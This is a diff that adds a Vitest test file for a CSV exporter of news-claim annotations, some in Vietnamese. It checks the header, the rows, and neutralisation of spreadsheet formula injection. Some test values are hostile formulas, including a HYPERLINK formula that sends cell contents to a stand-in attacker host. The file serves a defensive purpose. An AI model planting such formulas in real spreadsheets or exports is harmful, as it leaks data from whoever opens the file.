@@ -1,0 +1,110 @@
+import { parse } from "csv-parse/sync";
+import { describe, expect, it } from "vitest";
+import { CSV_COLUMNS, csvHeader, csvRows, neutralizeCell } from "./csv";
+import { link, mention } from "./test-fixtures";
+
+/** Parses a CSV document into objects keyed by the header, as a spreadsheet or pandas would. */
+function read(doc: string): Record<string, string>[] {
+  return parse(doc, { columns: true, bom: true, relax_quotes: false });
+}
+
+describe("csvHeader", () => {
+  it("lists the columns in order, CRLF-terminated", () => {
+    expect(csvHeader()).toBe(CSV_COLUMNS.join(",") + "\r\n");
+  });
+
+  it("prepends a UTF-8 BOM only when asked", () => {
+    expect(csvHeader({ bom: true }).startsWith("\uFEFFannotation_id,")).toBe(true);
+    expect(csvHeader().startsWith("annotation_id,")).toBe(true);
+  });
+});
+
+describe("csvRows", () => {
+  it("writes one row per proposition link", () => {
+    const m = mention({ propositions: [link(), link({ id: "other", statement: "Russia paid in oil", stance: "NEUTRAL", rating: null })] });
+    const rows = read(csvHeader() + csvRows(m));
+    expect(rows.map((r) => [r.proposition_id, r.stance, r.rating])).toEqual([
+      [link().id, "SUPPORTS", "Unproven"],
+      ["other", "NEUTRAL", ""],
+    ]);
+    expect(rows.every((r) => r.annotation_id === m.annotationId)).toBe(true);
+  });
+
+  it("writes one row with empty proposition columns for an unlinked claim", () => {
+    const rows = read(csvHeader() + csvRows(mention({ propositions: [] })));
+    expect(rows).toHaveLength(1);
+    for (const c of ["stance", "proposition_id", "proposition", "verdict", "verdict_sentence", "rating"]) expect(rows[0][c]).toBe("");
+    expect(rows[0].quote).toBe(mention().exact);
+  });
+
+  it("fills every column from the record, joining lists with '; '", () => {
+    const [r] = read(csvHeader() + csvRows(mention()));
+    expect(r).toMatchObject({
+      article_title: "Nhà Trắng: Bình Nhưỡng đã chuyển đạn pháo cho Nga",
+      origins: "AFP; Reuters",
+      independent_origin: "White House",
+      speaker: "White House",
+      modality: "ALLEGED",
+      date: "2023-09",
+      quantity: "hơn 1.000 container",
+      item: "đạn dược",
+      actors: "Triều Tiên; Nga",
+      created_at: "2024-06-20T08:15:30.000Z",
+    });
+    expect(Object.keys(r)).toEqual([...CSV_COLUMNS]);
+  });
+
+  it("writes empty cells for missing optional values", () => {
+    const [r] = read(csvHeader() + csvRows(mention({ articleUrl: null, publishedAt: null, publisher: null, speaker: null, note: null, fields: {}, origins: [], actors: [] })));
+    for (const c of ["article_url", "published_at", "publisher", "speaker", "note", "date", "quantity", "item", "origins", "actors"]) expect(r[c]).toBe("");
+  });
+});
+
+describe("spreadsheet formula injection", () => {
+  it.each([
+    ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", true],
+    ["+1", true],
+    ["-2", true],
+    ["@SUM(A1:A9)", true],
+    ["\tindented", true],
+    ["\rreturn", true],
+    ["a = b + c", false],
+    ["'already quoted", false],
+    ["Kim nói: \"đại thắng\", rồi -- hết", false],
+    ["", false],
+  ])("%j neutralised: %s", (value, dangerous) => {
+    expect(neutralizeCell(value)).toBe(dangerous ? `'${value}` : value);
+  });
+
+  it("round-trips neutralised and awkward values through csv-parse", () => {
+    const hostile = {
+      articleTitle: "=HYPERLINK(\"http://evil.example\",\"x\")",
+      exact: "Ông nói: \"5, 6, hay 7\", rồi\nxuống dòng\r\nvà \"hết\"",
+      note: "+1",
+      speaker: "@SUM(A1)",
+      fields: { quantity: "-2", date: "2023-09-13", item: "đạn, pháo" },
+      actors: ["-Nga", "Triều Tiên"],
+    };
+    const doc = csvHeader({ bom: true }) + csvRows(mention(hostile)) + csvRows(mention({ annotationId: "second" }));
+    const rows = read(doc);
+    expect(rows).toHaveLength(2);
+    expect(rows[0]).toMatchObject({
+      article_title: `'${hostile.articleTitle}`,
+      quote: hostile.exact,
+      note: "'+1",
+      speaker: "'@SUM(A1)",
+      quantity: "'-2",
+      date: "2023-09-13",
+      item: "đạn, pháo",
+      actors: "'-Nga; Triều Tiên",
+    });
+    expect(rows[1].annotation_id).toBe("second");
+  });
+
+  it("quotes a value containing a bare line feed so line-based readers keep the row whole", () => {
+    const chunk = csvRows(mention({ exact: "dòng một\ndòng hai", note: null, propositions: [] }));
+    expect(chunk).toContain('"dòng một\ndòng hai"');
+    expect(chunk.endsWith("\r\n")).toBe(true);
+    expect(chunk.split("\r\n")).toHaveLength(2);
+  });
+});
